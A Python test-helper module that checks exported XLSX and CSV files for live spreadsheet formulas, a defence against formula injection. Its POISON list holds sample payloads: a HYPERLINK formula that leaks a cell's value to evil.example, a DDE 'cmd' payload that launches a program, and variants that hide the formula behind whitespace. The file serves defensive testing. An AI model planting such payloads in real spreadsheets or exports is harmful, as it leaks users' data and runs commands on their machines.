"""Test helpers for exported files: every cell read back, and none a formula (imported by the apps' export tests)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

from huimin.core.exports import FORMULA_STARTS, LEADING_BLANKS

POISON = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=cmd|' /C calc'!A0",
]


def xlsx_cells(content: bytes) -> Iterator[tuple[str, str, Any, str]]:
    """(sheet, coordinate, value, data_type) of every cell of every sheet of a workbook."""
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell.coordinate, cell.value, cell.data_type


def csv_cells(content: bytes) -> Iterator[tuple[int, int, str]]:
    text = content.decode("utf-8-sig")
    for r, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for c, value in enumerate(row, start=1):
            yield r, c, value


def _live(text: str) -> bool:
    return text[:1] in FORMULA_STARTS or text.lstrip(LEADING_BLANKS)[:1] in FORMULA_STARTS


def live_formulas_in_xlsx(content: bytes) -> list[str]:
    """Cells a spreadsheet program would evaluate: formulas (data type "f") and text starting like one."""
    return [
        f"{sheet}!{coordinate}={value!r}"
        for sheet, coordinate, value, data_type in xlsx_cells(content)
        if data_type == "f" or (isinstance(value, str) and _live(value))
    ]


def live_formulas_in_csv(content: bytes) -> list[str]:
    return [f"R{r}C{c}={value!r}" for r, c, value in csv_cells(content) if _live(value)]
